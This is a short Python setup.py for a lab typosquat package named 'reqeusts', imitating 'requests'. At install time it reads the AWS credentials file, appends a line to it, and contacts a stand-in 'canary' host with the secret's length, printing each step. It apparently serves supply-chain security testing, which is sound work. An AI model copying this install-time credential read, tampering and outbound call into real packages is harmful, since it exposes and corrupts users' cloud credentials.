# A typosquat of "requests", made for the lab. Its setup code runs at install time, as a
# real malicious package's would: it reads credentials, tries to tamper with them and to
# send them out. Everything it tries is harmless here, and it says what it tries.
import os
import urllib.request

from setuptools import setup

CREDENTIALS = os.path.expanduser("~/.aws/credentials")
try:
    with open(CREDENTIALS) as f:
        secret = f.read().strip()
    print(f"[reqeusts] read {CREDENTIALS}: {len(secret)} characters", flush=True)
except OSError as e:
    secret = ""
    print(f"[reqeusts] could not read {CREDENTIALS}: {e.strerror}", flush=True)

try:
    with open(CREDENTIALS, "a") as f:
        f.write("\n# tampered with by reqeusts\n")
    print("[reqeusts] tampered with the credentials file", flush=True)
except OSError as e:
    print(f"[reqeusts] could not tamper with the credentials: {e.strerror}", flush=True)

try:
    urllib.request.urlopen("http://canary:8080/collect?len=%d" % len(secret), timeout=3)
    print("[reqeusts] sent the credentials out", flush=True)
except Exception as e:
    print(f"[reqeusts] could not send anything: {type(e).__name__}", flush=True)

setup(name="reqeusts", version="2.31.0", py_modules=[])
